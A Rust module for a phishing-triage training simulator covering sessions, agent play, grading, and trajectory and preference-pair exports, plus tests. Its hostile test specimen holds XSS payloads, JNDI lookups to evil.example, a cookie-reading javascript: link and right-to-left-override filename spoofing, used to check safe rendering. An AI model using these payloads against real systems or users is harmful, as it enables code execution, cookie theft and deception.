@@ -1,0 +1,449 @@
+//! The triage page's run of the simulator: the task, who decides, and the record of the
+//! current episode; its exports (trajectory and preference pairs, through the core's code).
+//! Plain Rust, tested natively; the components only read it.
+
+use super::settings::{Decider, TriageSettings};
+use std::borrow::Cow;
+use std::sync::Arc;
+use ztgym::core::eval::trajectory_line;
+use ztgym::core::learn::adapter::Adapter;
+use ztgym::core::pairs::{self, PairConfig};
+use ztgym::core::Agent;
+use ztgym::triage::agents::read_cues;
+use ztgym::triage::message::Message;
+use ztgym::triage::{
+    builtin_agent, Action, Channel, Class, Decision, Env, Grade, Info, Observation, ResetOptions,
+    Step, Triage, Visible,
+};
+
+/// The longest reasoning a person may send (the box's `maxlength` says the same).
+pub const MAX_REASONING: usize = 2000;
+
+/// The reasoning sent for a person who gave none (the environment needs one; it names no cue,
+/// so it scores 0).
+pub const NO_REASONING: &str = "No reasoning given.";
+
+/// One step taken: the observation decided on, the action and its result.
+#[derive(Clone, Debug)]
+pub struct Record {
+    pub observation: Observation,
+    pub action: Action,
+    pub step: Step,
+}
+
+/// Totals over the episodes played since the settings last changed.
+#[derive(Clone, Copy, Debug, Default, PartialEq)]
+pub struct RunStats {
+    pub episodes: u64,
+    pub steps: u64,
+    pub passed: u64,
+    pub total_score: f64,
+}
+
+/// One triage run.
+pub struct Session {
+    settings: TriageSettings,
+    env: Env,
+    agent: Option<Box<dyn Agent<Env>>>,
+    observation: Observation,
+    info: Info,
+    log: Vec<Record>,
+    stats: RunStats,
+}
+
+/// A message of hostile text (`show=hostile`): markup, a JNDI lookup, right-to-left overrides
+/// and a very long unbroken line, to check every surface shows it as text. A phishing attempt.
+pub fn hostile_message() -> Message {
+    let long = "A".repeat(3000);
+    let visible = Visible {
+        channel: Channel::Email,
+        sender: "security@paypa1-support.com\u{202E}gpj.exe".to_string(),
+        subject: Some("<script>alert('subject')</script> ${jndi:ldap://evil.example/a}".to_string()),
+        text: format!(
+            "<script>alert('xss')</script><img src=x onerror=alert(1)> ${{jndi:ldap://evil.example/x}} \
+             Your account is locked: verify your password now. \u{202E}txt.exe\u{202C} {long}"
+        ),
+        links: vec![
+            "javascript:alert(document.cookie)".to_string(),
+            format!("http://bit.ly/{}", "x".repeat(500)),
+        ],
+        attachments: vec!["invoice\u{202E}fdp.exe".to_string(), "<b>bold</b>.zip".to_string()],
+    };
+    let cues = read_cues(&visible);
+    Message {
+        visible: Arc::new(visible),
+        class: Class::Phishing,
+        cues,
+        hard_negative: false,
+        source: Arc::from("hostile-specimen"),
+    }
+}
+
+/// Starts an episode of `settings` on `env`: the seed's, with the hostile specimen first if
+/// asked. The same for the run and for the replay the pairs are made on.
+fn start(env: &mut Env, settings: &TriageSettings) -> (Observation, Info) {
+    let (mut observation, info) = env.reset(settings.seed, ResetOptions::default());
+    if settings.hostile {
+        observation = env.show(hostile_message());
+    }
+    (observation, info)
+}
+
+impl Session {
+    /// Starts a run. Fails only for an agent the triage crate does not have.
+    pub fn new(settings: TriageSettings) -> Result<Session, String> {
+        let agent = match settings.agent {
+            Decider::Human => None,
+            Decider::Agent(name) => Some(builtin_agent(name)?),
+        };
+        let mut env = Env::new(settings.task);
+        let (observation, info) = start(&mut env, &settings);
+        let mut session = Session {
+            settings,
+            env,
+            agent,
+            observation,
+            info,
+            log: Vec::new(),
+            stats: RunStats::default(),
+        };
+        if let Some(a) = session.agent.as_mut() {
+            a.reset(session.settings.seed);
+        }
+        Ok(session)
+    }
+
+    pub fn settings(&self) -> &TriageSettings {
+        &self.settings
+    }
+
+    /// Starts the episode again with the same seed.
+    pub fn restart(&mut self) {
+        let (observation, info) = start(&mut self.env, &self.settings);
+        self.observation = observation;
+        self.info = info;
+        self.log.clear();
+        if let Some(a) = self.agent.as_mut() {
+            a.reset(self.settings.seed);
+        }
+    }
+
+    /// Starts a new episode with `seed`.
+    pub fn set_seed(&mut self, seed: u64) {
+        self.settings.seed = seed;
+        self.restart();
+    }
+
+    /// Whether an agent decides (not a person).
+    pub fn automated(&self) -> bool {
+        self.agent.is_some()
+    }
+
+    pub fn done(&self) -> bool {
+        self.log.last().is_some_and(|r| r.step.done())
+    }
+
+    /// A person's decision. A refused one (finished episode, confidence out of range, a
+    /// reasoning too long) changes nothing and says why.
+    pub fn decide(
+        &mut self,
+        decision: Decision,
+        confidence: f64,
+        reasoning: &str,
+    ) -> Result<(), String> {
+        if self.done() {
+            return Err("The episode is over: press Reset or New seed for another.".into());
+        }
+        if reasoning.chars().count() > MAX_REASONING {
+            return Err(format!(
+                "reasoning: at most {MAX_REASONING} characters, found {}",
+                reasoning.chars().count()
+            ));
+        }
+        let reasoning = match reasoning.trim() {
+            "" => Cow::Borrowed(NO_REASONING),
+            given => Cow::Owned(given.to_string()),
+        };
+        let action = Action {
+            decision,
+            confidence,
+            reasoning,
+        };
+        let step = self.env.step(&action).map_err(|e| e.to_string())?;
+        self.record(action, step);
+        Ok(())
+    }
+
+    /// One step of the agent; false when there is none or the episode is over.
+    pub fn agent_step(&mut self) -> bool {
+        if self.done() {
+            return false;
+        }
+        let Some(agent) = self.agent.as_mut() else {
+            return false;
+        };
+        let action = agent.act(&self.observation, &self.info);
+        match self.env.step(&action) {
+            Ok(step) => {
+                self.record(action, step);
+                true
+            }
+            Err(_) => false,
+        }
+    }
+
+    /// Runs up to `max_steps` agent steps; with `keep_going`, a finished episode is followed by
+    /// the next seed's. Returns the steps taken.
+    pub fn run(&mut self, max_steps: usize, keep_going: bool) -> usize {
+        let mut taken = 0;
+        while taken < max_steps {
+            if self.done() {
+                if !keep_going {
+                    break;
+                }
+                self.set_seed(self.settings.seed.wrapping_add(1));
+            }
+            if !self.agent_step() {
+                break;
+            }
+            taken += 1;
+        }
+        taken
+    }
+
+    fn record(&mut self, action: Action, step: Step) {
+        self.stats.steps += 1;
+        if step.done() {
+            let g = step.info.grade.clone().unwrap_or_else(|| self.env.grade());
+            self.stats.episodes += 1;
+            self.stats.passed += u64::from(g.passed);
+            self.stats.total_score += g.score;
+        }
+        let observation = std::mem::replace(&mut self.observation, step.observation.clone());
+        self.info = step.info.clone();
+        self.log.push(Record {
+            observation,
+            action,
+            step,
+        });
+    }
+
+    /// The message on screen now (after the last step: the next one to decide).
+    pub fn observation(&self) -> &Observation {
+        &self.observation
+    }
+
+    pub fn info(&self) -> &Info {
+        &self.info
+    }
+
+    pub fn log(&self) -> &[Record] {
+        &self.log
+    }
+
+    pub fn stats(&self) -> RunStats {
+        self.stats
+    }
+
+    /// The grade: the final one once the episode is over, else the grader's verdict so far.
+    pub fn grade(&self) -> Grade {
+        self.log
+            .last()
+            .and_then(|r| r.step.info.grade.clone())
+            .unwrap_or_else(|| self.env.grade())
+    }
+
+    pub fn episode_return(&self) -> f64 {
+        self.log.iter().map(|r| r.step.reward).sum()
+    }
+
+    pub fn episode_cost(&self) -> f64 {
+        self.log.iter().map(|r| r.step.cost).sum()
+    }
+
+    /// The episode as `ztgym run` writes a trajectory: a JSON line per step.
+    pub fn trajectory_jsonl(&self) -> String {
+        let mut out = String::new();
+        for (t, r) in self.log.iter().enumerate() {
+            out.push_str(&trajectory_line(
+                t as u32,
+                &r.observation,
+                &r.action,
+                &r.step,
+            ));
+            out.push('\n');
+        }
+        out
+    }
+
+    /// The episode's preference pairs (the core's counterfactual pairs), as JSONL: the episode
+    /// is replayed from its seed with the decisions taken, and at each step every decision is
+    /// tried on a clone of the environment.
+    pub fn pairs_jsonl(&self) -> String {
+        let task = self.settings.task;
+        let mut env = Env::new(task);
+        let mut adapter = Triage::new(&task);
+        let (mut observation, _) = start(&mut env, &self.settings);
+        adapter.reset();
+        let mut list = Vec::new();
+        for (t, r) in self.log.iter().enumerate() {
+            adapter.observe(&observation);
+            for mut p in pairs::pairs_at(
+                &env,
+                &adapter,
+                &observation,
+                PairConfig::default(),
+                self.settings.seed,
+                t as u32,
+            ) {
+                p.scenario = task.as_str().to_string();
+                list.push(p);
+            }
+            match env.step(&r.action) {
+                Ok(step) => observation = step.observation,
+                Err(_) => break,
+            }
+        }
+        pairs::to_jsonl(&list)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use ztgym::triage::TaskId;
+
+    fn settings(agent: Decider, task: TaskId) -> TriageSettings {
+        TriageSettings {
+            task,
+            seed: 5,
+            agent,
+            ..TriageSettings::default()
+        }
+    }
+
+    #[test]
+    fn a_person_decides_and_trust_and_fatigue_move() {
+        let mut s = Session::new(settings(Decider::Human, TaskId::L1)).unwrap();
+        assert!(!s.automated());
+        assert!(!s.agent_step(), "no agent plays for a person");
+        let fatigue = s.observation().alert_fatigue;
+        for _ in 0..5 {
+            s.decide(Decision::Warn, 0.6, "Urgent tone and a link")
+                .unwrap();
+        }
+        assert_eq!(s.log().len(), 5);
+        assert!(
+            s.observation().alert_fatigue > fatigue,
+            "warnings tire the user"
+        );
+        let err = s.decide(Decision::Allow, 1.5, "").unwrap_err();
+        assert!(err.contains("confidence"), "{err}");
+        assert_eq!(s.log().len(), 5, "a refused decision changes nothing");
+        let long = "x".repeat(MAX_REASONING + 1);
+        assert!(s
+            .decide(Decision::Allow, 0.5, &long)
+            .unwrap_err()
+            .contains("reasoning"));
+    }
+
+    #[test]
+    fn a_finished_episode_has_its_final_grade_and_refuses_more() {
+        let mut s = Session::new(settings(Decider::Human, TaskId::L1)).unwrap();
+        while !s.done() {
+            s.decide(Decision::Allow, 0.5, "").unwrap();
+        }
+        let g = s.grade();
+        assert_eq!(Some(&g), s.log().last().unwrap().step.info.grade.as_ref());
+        assert!(!g.passed, "always allowing fails L1: {g:?}");
+        assert!(s
+            .decide(Decision::Block, 0.5, "")
+            .unwrap_err()
+            .contains("over"));
+        assert_eq!(s.stats().episodes, 1);
+        s.restart();
+        assert!(s.log().is_empty() && !s.done());
+    }
+
+    #[test]
+    fn agents_play_and_the_same_seed_gives_the_same_trajectory() {
+        let mut a = Session::new(settings(Decider::Agent("rule-based"), TaskId::L3)).unwrap();
+        let mut b = Session::new(settings(Decider::Agent("rule-based"), TaskId::L3)).unwrap();
+        assert!(a.automated());
+        let n = a.run(10_000, false);
+        assert!(a.done() && n == a.log().len());
+        b.run(10_000, false);
+        assert_eq!(a.trajectory_jsonl(), b.trajectory_jsonl());
+        assert_eq!(a.trajectory_jsonl().lines().count(), n);
+        assert!(a.info().adversary.is_some(), "L3 reports the adversary");
+        // The same as the core's player on a fresh environment.
+        let mut env = Env::new(TaskId::L3);
+        let mut agent = builtin_agent("rule-based").unwrap();
+        let native = ztgym::core::eval::trajectory_jsonl(
+            &mut env,
+            agent.as_mut(),
+            5,
+            &ResetOptions::default(),
+        );
+        assert_eq!(a.trajectory_jsonl(), native);
+    }
+
+    #[test]
+    fn keep_going_moves_to_the_next_seed() {
+        let mut s = Session::new(settings(Decider::Agent("always-block"), TaskId::L1)).unwrap();
+        s.run(10_000, false);
+        assert!(s.done() && !s.log().is_empty());
+        assert_eq!(s.run(3, true), 3);
+        assert_eq!(s.settings().seed, 6);
+        assert_eq!(s.log().len(), 3);
+        assert_eq!(s.stats().episodes, 1);
+    }
+
+    #[test]
+    fn pairs_are_the_episodes_and_prefer_the_better_decision() {
+        let mut s = Session::new(settings(Decider::Agent("random"), TaskId::L2)).unwrap();
+        s.run(20, false);
+        let jsonl = s.pairs_jsonl();
+        let lines: Vec<serde_json::Value> = jsonl
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        assert!(lines.len() >= 20, "{}", lines.len());
+        for p in &lines {
+            assert_eq!(p["scenario"], "L2");
+            assert_eq!(p["seed"], 5);
+            assert!(p["step"].as_u64().unwrap() < 20);
+            assert!(p["margin"].as_f64().unwrap() >= 0.05);
+            assert!(p["prompt"].as_str().unwrap().starts_with("Task L2 step "));
+            let _: Action = serde_json::from_str(p["chosen"].as_str().unwrap()).unwrap();
+        }
+        // Step t's prompt is the message decided at step t.
+        let first = lines.iter().find(|p| p["step"] == 0).unwrap();
+        assert!(first["prompt"]
+            .as_str()
+            .unwrap()
+            .contains(&s.log()[0].observation.message.sender));
+    }
+
+    #[test]
+    fn the_hostile_specimen_comes_first_and_replays() {
+        let mut st = settings(Decider::Human, TaskId::L1);
+        st.hostile = true;
+        let mut s = Session::new(st).unwrap();
+        let m = s.observation().message.clone();
+        assert!(m.text.contains("<script>") && m.text.contains("${jndi:"));
+        assert!(m.text.contains('\u{202E}') && m.text.len() > 3000);
+        s.decide(Decision::Block, 0.9, "credential request, lookalike sender")
+            .unwrap();
+        assert_eq!(
+            s.log()[0].step.info.last.as_ref().unwrap().class,
+            Class::Phishing
+        );
+        assert!(
+            s.pairs_jsonl().contains("jndi"),
+            "the pairs replay the specimen"
+        );
+        s.restart();
+        assert_eq!(s.observation().message, m);
+    }
+}
